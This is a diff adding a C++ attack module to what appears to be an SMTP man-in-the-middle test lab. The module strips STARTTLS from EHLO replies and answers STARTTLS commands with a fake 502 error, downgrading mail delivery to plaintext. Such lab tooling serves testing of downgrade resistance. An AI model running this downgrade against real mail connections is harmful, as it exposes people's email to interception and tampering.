@@ -1,0 +1,41 @@
+// strip-starttls: the classic downgrade. The client never learns that the MX offers STARTTLS,
+// and if it asks anyway it is told the command does not exist.
+#include "basic_attack.hpp"
+
+namespace stslab::mitm::attacks {
+
+namespace {
+class StripStarttls final : public BasicAttack {
+ public:
+  using BasicAttack::BasicAttack;
+
+  CommandDecision on_command(const Command& command) const override {
+    if (!command.is("STARTTLS") || command.phase != Phase::plaintext) return {};
+    CommandDecision d;
+    d.kind = CommandDecision::Kind::answer;
+    d.reply = {"502 5.5.1 STARTTLS not implemented"};
+    d.action = "answered STARTTLS with 502";
+    return d;
+  }
+
+  ReplyDecision on_reply(const Command& command, Reply& reply) const override {
+    ReplyDecision d;
+    if (command.is_hello() && command.phase == Phase::plaintext &&
+        strip_ehlo_keyword(reply, "STARTTLS")) {
+      d.action = "removed STARTTLS from EHLO reply";
+    }
+    return d;
+  }
+};
+}  // namespace
+
+void register_strip_starttls(AttackRegistry& registry) {
+  registry.add("strip-starttls",
+               "remove STARTTLS from the EHLO reply; answer a STARTTLS command with 502",
+               [](const AttackSpec& spec, const AttackEnv&) {
+                 require_known_params(spec, {});
+                 return std::make_shared<StripStarttls>(spec);
+               });
+}
+
+}  // namespace stslab::mitm::attacks
